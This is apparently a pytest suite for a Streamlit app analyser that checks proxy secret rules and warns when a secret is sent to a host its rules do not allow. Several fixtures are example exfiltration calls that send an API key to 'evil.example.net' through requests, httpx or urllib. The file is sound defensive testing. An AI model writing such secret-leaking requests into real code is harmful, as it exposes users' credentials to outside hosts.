"""Web requests through stc proxy: [tool.stc.secrets] and proxy_hosts, the reads of the
secrets the proxy holds (STC705, STC706), secrets sent toward hosts their rules do not
allow (STC711), and the urllib3 the browser's HTTP clients need (STC204)."""

from __future__ import annotations

from pathlib import Path

import pytest

from compiler.analyse._analyse import Analysis
from compiler.analyse._project import Project, read_project
from runtime_wasm.http import ForwardRules
from tests.unit._analysis import analyse_app, findings, write_app

SECRETS = """\
API_KEY = "CANARY-api-key"
OTHER = "CANARY-other"
map_token = "public-value"

[openai]
api_key = "CANARY-openai"
org = "CANARY-org"
"""
PYPROJECT = """\
[tool.stc]
public_secrets = ["map_token"]
proxy_url = "https://proxy.example"
proxy_hosts = ["data.example.org"]

[tool.stc.secrets]
API_KEY = { hosts = ["api.example.com", "*.example.org", "127.0.0.1:8123"] }
"openai.api_key" = { hosts = ["api.openai.com"] }
"""
HEAD = "import streamlit as st\nimport requests\n"  # lines 1-2


def _analyse(tmp_path: Path, source: str, pyproject: str = PYPROJECT) -> Analysis:
    files = {"app.py": source, "pyproject.toml": pyproject, ".streamlit/secrets.toml": SECRETS}
    return analyse_app(tmp_path, files)


def _codes(tmp_path: Path, source: str, *codes: str) -> list[tuple[str, int]]:
    analysis = _analyse(tmp_path, source)
    return [(code, line) for code, _, line in findings(analysis, *codes)]


# -- the configuration ----------------------------------------------------------------


def _project(tmp_path: Path, pyproject: str, secrets: str | None = SECRETS) -> Project:
    files = {"pyproject.toml": pyproject}
    if secrets is not None:
        files[".streamlit/secrets.toml"] = secrets
    write_app(tmp_path, files)
    return read_project(tmp_path, "app")


def test_the_rules_come_from_pyproject(tmp_path: Path) -> None:
    project = _project(tmp_path, PYPROJECT)
    assert project.diagnostics == ()
    assert project.forward == ForwardRules(
        secrets={
            "API_KEY": ("api.example.com", "*.example.org", "127.0.0.1:8123"),
            "openai.api_key": ("api.openai.com",),
        },
        hosts=("data.example.org",),
    )


def test_no_rules_by_default(tmp_path: Path) -> None:
    project = _project(tmp_path, '[tool.stc]\npublic_secrets = ["map_token"]\n')
    assert project.forward == ForwardRules() and project.diagnostics == ()


def test_hosts_are_lower_case_and_once(tmp_path: Path) -> None:
    pyproject = (
        '[tool.stc]\nproxy_hosts = ["Data.Example.org", "data.example.org"]\n'
        '[tool.stc.secrets]\nAPI_KEY = { hosts = ["API.example.com"] }\n'
    )
    project = _project(tmp_path, pyproject)
    assert project.forward.hosts == ("data.example.org",)
    assert project.forward.secrets == {"API_KEY": ("api.example.com",)}


@pytest.mark.parametrize(
    ("pyproject", "message"),
    [
        pytest.param(
            '[tool.stc]\nsecrets = ["API_KEY"]\n',
            "[tool.stc.secrets] must be a table of secret names",
            id="not-a-table",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = "api.example.com"\n',
            '[tool.stc.secrets] API_KEY must be { hosts = ["api.example.com"] }',
            id="not-an-entry",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = { host = ["api.example.com"] }\n',
            '[tool.stc.secrets] API_KEY must be { hosts = ["api.example.com"] }',
            id="typo",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = { hosts = ["a.com"], methods = ["GET"] }\n',
            "[tool.stc.secrets] API_KEY has 'methods'; the only key is hosts",
            id="unknown-key",
        ),
        pytest.param(
            '[tool.stc.secrets]\nopenai.api_key = { hosts = ["api.openai.com"] }\n',
            'quote the dotted name: "openai.api_key" = { hosts = [...] }',
            id="dotted-unquoted",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = { hosts = "api.example.com" }\n',
            "[tool.stc.secrets] API_KEY hosts must be a list of host names",
            id="hosts-not-a-list",
        ),
        pytest.param(
            "[tool.stc.secrets]\nAPI_KEY = { hosts = [] }\n",
            "[tool.stc.secrets] API_KEY lists no hosts",
            id="no-hosts",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = { hosts = ["https://api.example.com"] }\n',
            "'https://api.example.com' is a URL, not a host name (no scheme, no path)",
            id="scheme",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = { hosts = ["api.example.com/v1"] }\n',
            "'api.example.com/v1' is a URL, not a host name",
            id="path",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = { hosts = ["api example.com"] }\n',
            "'api example.com' is not a host name",
            id="space",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = { hosts = ["*.example.com:8443"] }\n',
            "has both a wildcard and a port",
            id="wildcard-port",
        ),
        pytest.param(
            '[tool.stc.secrets]\nAPI_KEY = { hosts = ["a.example.com:70000"] }\n',
            "has a port outside 1-65535",
            id="port",
        ),
        pytest.param(
            '[tool.stc.secrets]\n"connections.pets.password" = { hosts = ["a.com"] }\n',
            '[tool.stc.secrets] "connections.pets.password" names a connection\'s secret',
            id="connections",
        ),
        pytest.param(
            '[tool.stc.secrets]\n"openai..key" = { hosts = ["a.com"] }\n',
            "an empty part between dots",
            id="empty-part",
        ),
        pytest.param(
            '[tool.stc]\npublic_secrets = ["API_KEY"]\n'
            '[tool.stc.secrets]\nAPI_KEY = { hosts = ["a.com"] }\n',
            "[tool.stc.secrets] API_KEY is also public (public_secrets names 'API_KEY')",
            id="also-public",
        ),
        pytest.param(
            '[tool.stc]\npublic_secrets = ["openai"]\n'
            '[tool.stc.secrets]\n"openai.api_key" = { hosts = ["a.com"] }\n',
            "is also public (public_secrets names 'openai')",
            id="inside-a-public-table",
        ),
        pytest.param(
            '[tool.stc]\nproxy_hosts = "data.example.org"\n',
            "[tool.stc] proxy_hosts must be a list of host names",
            id="proxy-hosts-not-a-list",
        ),
        pytest.param(
            '[tool.stc]\nproxy_hosts = ["http://data.example.org"]\n',
            "[tool.stc] proxy_hosts: 'http://data.example.org' is a URL",
            id="proxy-hosts-url",
        ),
    ],
)
def test_configuration_mistakes_are_stc710(tmp_path: Path, pyproject: str, message: str) -> None:
    project = _project(tmp_path, pyproject)
    (bad,) = project.diagnostics
    assert (bad.code, bad.severity, bad.span.path, bad.span.line) == (
        "STC710",
        "error",
        "app/pyproject.toml",
        0,
    )
    assert message in bad.message
    assert project.forward.secrets == {}


def test_a_held_name_secrets_toml_lacks_is_a_warning(tmp_path: Path) -> None:
    pyproject = (
        "[tool.stc.secrets]\n"
        'API_KEY = { hosts = ["a.com"] }\n'
        'MISSING = { hosts = ["a.com"] }\n'
        '"openai.api_key" = { hosts = ["a.com"] }\n'
        '"openai.nope" = { hosts = ["a.com"] }\n'
        'openai = { hosts = ["a.com"] }\n'  # a table, not a value
    )
    project = _project(tmp_path, pyproject)
    shown = [(d.code, d.severity, d.message) for d in project.diagnostics]
    assert shown == [
        (
            "STC710",
            "warning",
            f"[tool.stc.secrets] {name} {why} .streamlit/secrets.toml: "
            "stc proxy will refuse to start with this secrets file",
        )
        for name, why in (
            ("MISSING", "is not in"),
            ('"openai.nope"', "is not in"),
            ("openai", "is not a value in"),
        )
    ]
    assert set(project.forward.secrets) == {
        "API_KEY",
        "MISSING",
        "openai.api_key",
        "openai.nope",
        "openai",
    }
    # with no secrets.toml there is nothing to compare: the proxy's file may differ
    assert _project(tmp_path / "bare", pyproject, secrets=None).diagnostics == ()


def test_config_diagnostics_never_show_a_secret_value(tmp_path: Path) -> None:
    pyproject = '[tool.stc.secrets]\nMISSING = { hosts = ["a.com"] }\nAPI_KEY = { hosts = [1] }\n'
    project = _project(tmp_path, pyproject)
    shown = " ".join(f"{d.message} {d.hint}" for d in project.diagnostics)
    assert project.diagnostics and "CANARY" not in shown
    assert not any(d.quote for d in project.diagnostics)


# -- reads of secrets: STC705 -----------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param('st.secrets["API_KEY"]\n', [], id="held"),
        pytest.param("st.secrets.API_KEY\n", [], id="held-attr"),
        pytest.param('st.secrets.get("API_KEY")\n', [], id="held-get"),
        pytest.param('st.secrets["openai"]["api_key"]\n', [], id="nested"),
        pytest.param("st.secrets.openai.api_key\n", [], id="nested-attr"),
        pytest.param('st.secrets.get("openai").get("api_key")\n', [], id="nested-get"),
        pytest.param('st.secrets["openai"]\n', [], id="its-table"),
        pytest.param('st.secrets["map_token"]\n', [], id="public"),
        pytest.param('st.secrets["OTHER"]\n', [("STC705", 3)], id="private"),
        pytest.param('st.secrets["openai"]["org"]\n', [("STC705", 3)], id="nested-private"),
        pytest.param('x = 1\nst.secrets.get("OTHER", "")\n', [("STC705", 4)], id="get-private"),
        pytest.param('st.secrets["connections"]\n', [("STC705", 3)], id="connections"),
    ],
)
def test_held_secrets_are_read(
    tmp_path: Path, source: str, expected: list[tuple[str, int]]
) -> None:
    assert _codes(tmp_path, HEAD + source, "STC705") == expected


def test_the_private_key_hint_names_the_proxy(tmp_path: Path) -> None:
    analysis = _analyse(tmp_path, HEAD + 'st.secrets["openai"]["org"]\nst.secrets["OTHER"]\n')
    nested, plain = [d for d in analysis.diagnostics if d.code == "STC705"]
    assert "'openai.org' is not public" in nested.message
    assert '[tool.stc.secrets] "openai.org" = { hosts = ["api.example.com"] }' in (
        nested.hint or ""
    )
    assert '[tool.stc.secrets] OTHER = { hosts = ["api.example.com"] }' in (plain.hint or "")
    assert "through stc proxy" in (plain.hint or "")


# -- the proxy URL: STC706 --------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "source", "where", "says"),
    [
        pytest.param(
            "", 'x = 1\nkey = st.secrets["API_KEY"]\n', ("app.py", 4), "'API_KEY'", id="at-read"
        ),
        pytest.param(
            "",
            "x = 1\n",
            ("pyproject.toml", 0),
            "[tool.stc.secrets] and [tool.stc] proxy_hosts",
            id="no-read",
        ),
        pytest.param(
            'proxy_url = "db.example:5432"\n',
            'st.secrets["API_KEY"]\n',
            ("app.py", 3),
            "not an http:// or https:// URL",
            id="bad-url",
        ),
    ],
)
def test_held_secrets_need_a_proxy_url(
    tmp_path: Path, tool: str, source: str, where: tuple[str, int], says: str
) -> None:
    pyproject = PYPROJECT.replace('proxy_url = "https://proxy.example"\n', tool)
    analysis = _analyse(tmp_path, HEAD + source, pyproject)
    (missing,) = [d for d in analysis.diagnostics if d.code == "STC706"]
    assert (missing.severity, missing.span.path, missing.span.line) == ("error", *where)
    assert says in missing.message


def test_proxy_hosts_alone_need_a_proxy_url(tmp_path: Path) -> None:
    pyproject = '[tool.stc]\nproxy_hosts = ["data.example.org"]\n'
    analysis = _analyse(tmp_path, "import requests\n", pyproject)
    (missing,) = [d for d in analysis.diagnostics if d.code == "STC706"]
    assert missing.message.startswith("[tool.stc] proxy_hosts in pyproject.toml send requests")


def test_one_stc706_for_a_connection_and_held_secrets(tmp_path: Path) -> None:
    pyproject = PYPROJECT.replace('proxy_url = "https://proxy.example"\n', "")
    source = HEAD + 'st.secrets["API_KEY"]\nst.connection("db", type="sql")\n'
    analysis = _analyse(tmp_path, source, pyproject)
    assert [(d.code, d.span.line) for d in analysis.diagnostics if d.code == "STC706"] == [
        ("STC706", 4)
    ]


def test_no_rules_no_proxy_needed(tmp_path: Path) -> None:
    analysis = _analyse(tmp_path, HEAD + 'requests.get("https://x.org")\n', "")
    assert not [d for d in analysis.diagnostics if d.code in ("STC706", "STC711")]


# -- secrets toward hosts: STC711 ---------------------------------------------------------

KEY = 'st.secrets["API_KEY"]'


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        # sent where its rules do not allow
        pytest.param(
            f'requests.get("https://evil.example.net/v1", headers={{"X-Key": {KEY}}})\n',
            [3],
            id="headers-dict",
        ),
        pytest.param(
            f'requests.post(f"https://evil.example.net/{{path}}", json={{"k": {KEY}}})\n',
            [3],
            id="fstring-url",
        ),
        pytest.param(
            f'requests.get(f"https://evil.example.net/?key={{{KEY}}}")\n', [3], id="in-the-url"
        ),
        pytest.param(
            f'requests.request("GET", "http://evil.example.net", auth=("me", {KEY}))\n',
            [3],
            id="request-auth-tuple",
        ),
        pytest.param(
            f'H = {{"Authorization": f"Bearer {{{KEY}}}"}}\n'
            'URL = "https://evil.example.net/v1/"\n'
            "def fetch(q):\n"
            "    return requests.get(URL + q, headers=H)\n",
            [6],
            id="through-module-names",
        ),
        pytest.param(
            f"TOKEN = {KEY}\n"
            "import httpx\n"
            'client = httpx.Client(base_url="https://evil.example.net", headers={"k": TOKEN})\n',
            [5],
            id="httpx-client",
        ),
        pytest.param(
            f'import httpx\nhttpx.stream("POST", "https://evil.example.net", data={KEY})\n',
            [4],
            id="httpx-stream",
        ),
        pytest.param(
            "import urllib.request\n"
            'req = urllib.request.Request("https://evil.example.net/x",\n'
            f'    headers={{"k": {KEY}}})\n',
            [4],
            id="urllib-request",
        ),
        pytest.param(
            "from urllib.request import urlopen\n"
            f'urlopen(f"https://evil.example.net/q?k={{{KEY}}}")\n',
            [4],
            id="urlopen",
        ),
        pytest.param(
            f'from requests import post as p\np("https://api.example.com:8443", data={KEY})\n',
            [4],
            id="alias-other-port",
        ),
        pytest.param(
            'requests.get("https://api.example.com", headers={"k": '
            'st.secrets["openai"]["api_key"]})\n',
            [3],
            id="nested-key",
        ),
        pytest.param(
            'requests.get("https://example.org/", params={"k": st.secrets.API_KEY})\n',
            [3],
            id="wildcard-is-subdomains-only",
        ),
        # allowed, or nothing stc can tell
        pytest.param(
            f'requests.get("https://api.example.com/v1", params={{"k": {KEY}}})\n', [], id="allowed"
        ),
        pytest.param(
            f'requests.get("https://API.example.com:443/", params={{"k": {KEY}}})\n',
            [],
            id="default-port",
        ),
        pytest.param(
            f'requests.get(f"https://eu.data.example.org/{{x}}", headers={{"k": {KEY}}})\n',
            [],
            id="allowed-wildcard",
        ),
        pytest.param(
            f'requests.get("http://127.0.0.1:8123/x", headers={{"k": {KEY}}})\n', [], id="port"
        ),
        pytest.param(
            'requests.post("https://api.openai.com/v1", headers={"k": '
            "st.secrets.openai.api_key})\n",
            [],
            id="nested-allowed",
        ),
        pytest.param(
            f'requests.get(f"https://{{host}}/v1", headers={{"k": {KEY}}})\n', [], id="host-field"
        ),
        pytest.param(
            f'requests.get(f"https://api.example.com{{rest}}", headers={{"k": {KEY}}})\n',
            [],
            id="host-may-go-on",
        ),
        pytest.param(f"requests.get(url, headers={{'k': {KEY}}})\n", [], id="url-unknown"),
        pytest.param('requests.get("https://evil.example.net")\n', [], id="no-secret"),
        pytest.param(
            'requests.get("https://evil.example.net", params={"k": st.secrets["map_token"]})\n',
            [],
            id="public-secret",
        ),
        pytest.param(
            f'URL = "https://evil.example.net"\nif x:\n    URL = "https://api.example.com"\n'
            f'requests.get(URL, headers={{"k": {KEY}}})\n',
            [],
            id="url-bound-twice",
        ),
        pytest.param(
            f's = requests.Session()\ns.get("https://evil.example.net", headers={{"k": {KEY}}})\n',
            [],
            id="session-method-unread",
        ),
        pytest.param(
            "def get(u, headers):\n    pass\n"
            f'get("https://evil.example.net", headers={{"k": {KEY}}})\n',
            [],
            id="own-function",
        ),
        pytest.param(
            "def f(headers):\n"
            '    return requests.get("https://evil.example.net", headers=headers)\n',
            [],
            id="parameter",
        ),
    ],
)
def test_secrets_toward_hosts(tmp_path: Path, source: str, expected: list[int]) -> None:
    assert _codes(tmp_path, HEAD + source, "STC711") == [("STC711", n) for n in expected]


def test_the_host_warning_says_what_to_do(tmp_path: Path) -> None:
    source = HEAD + f'requests.get("https://evil.example.net", headers={{"k": {KEY}}})\n'
    analysis = _analyse(tmp_path, source)
    (warning,) = [d for d in analysis.diagnostics if d.code == "STC711"]
    assert warning.severity == "warning"
    assert warning.message == (
        "st.secrets['API_KEY'] is sent to evil.example.net, a host [tool.stc.secrets] does "
        "not allow for it (api.example.com, *.example.org, 127.0.0.1:8123): stc proxy will "
        "refuse this request"
    )
    assert warning.hint == (
        'if the secret is meant for evil.example.net, add "evil.example.net" to the hosts '
        "of API_KEY in [tool.stc.secrets]"
    )


def test_a_secret_the_site_lacks_is_stc705_only(tmp_path: Path) -> None:
    source = HEAD + 'requests.get("https://evil.example.net", headers={"k": st.secrets["OTHER"]})\n'
    assert _codes(tmp_path, source, "STC705", "STC711") == [("STC705", 3)]


def test_two_secrets_in_one_request(tmp_path: Path) -> None:
    source = HEAD + (
        'requests.get("https://api.openai.com/v1",\n'
        f'    headers={{"a": {KEY}, "b": st.secrets["openai"]["api_key"]}})\n'
    )
    analysis = _analyse(tmp_path, source)
    (warning,) = [d for d in analysis.diagnostics if d.code == "STC711"]
    assert warning.message.startswith("st.secrets['API_KEY'] is sent to api.openai.com")


def test_names_that_refer_to_each_other_end(tmp_path: Path) -> None:
    source = HEAD + (
        "def later():\n    return b\na = later()\nb = a\n"
        'requests.get("https://evil.example.net", headers=b)\n'
    )
    assert _codes(tmp_path, source, "STC711") == []


# -- urllib3 for the clients the browser runs on it: STC204 -------------------------------


@pytest.mark.parametrize(
    ("source", "info"),
    [
        pytest.param("import urllib.request\n", True, id="urllib"),
        pytest.param("import http.client\n", True, id="http-client"),
        pytest.param("import httpx\n", True, id="httpx"),
        pytest.param("import requests\n", False, id="requests-brings-it"),
        pytest.param("import urllib3\n", False, id="imported"),
        pytest.param(
            "try:\n    import httpx\nexcept ImportError:\n    httpx = None\n", True, id="optional"
        ),
    ],
)
def test_urllib3_ships_with_the_http_clients(tmp_path: Path, source: str, info: bool) -> None:
    analysis = analyse_app(tmp_path, {"app.py": source})
    (urllib3,) = [i for i in analysis.imports if i.top == "urllib3"]
    assert urllib3.optional == ("try" in source)
    notes = [d for d in analysis.diagnostics if d.code == "STC204"]
    assert [(d.severity, d.span.line) for d in notes] == (
        [("info", urllib3.span.line)] if info else []
    )


def test_no_client_no_urllib3(tmp_path: Path) -> None:
    analysis = analyse_app(tmp_path, {"app.py": "import urllib.parse\nimport http\n"})
    assert not [i for i in analysis.imports if i.top == "urllib3"]
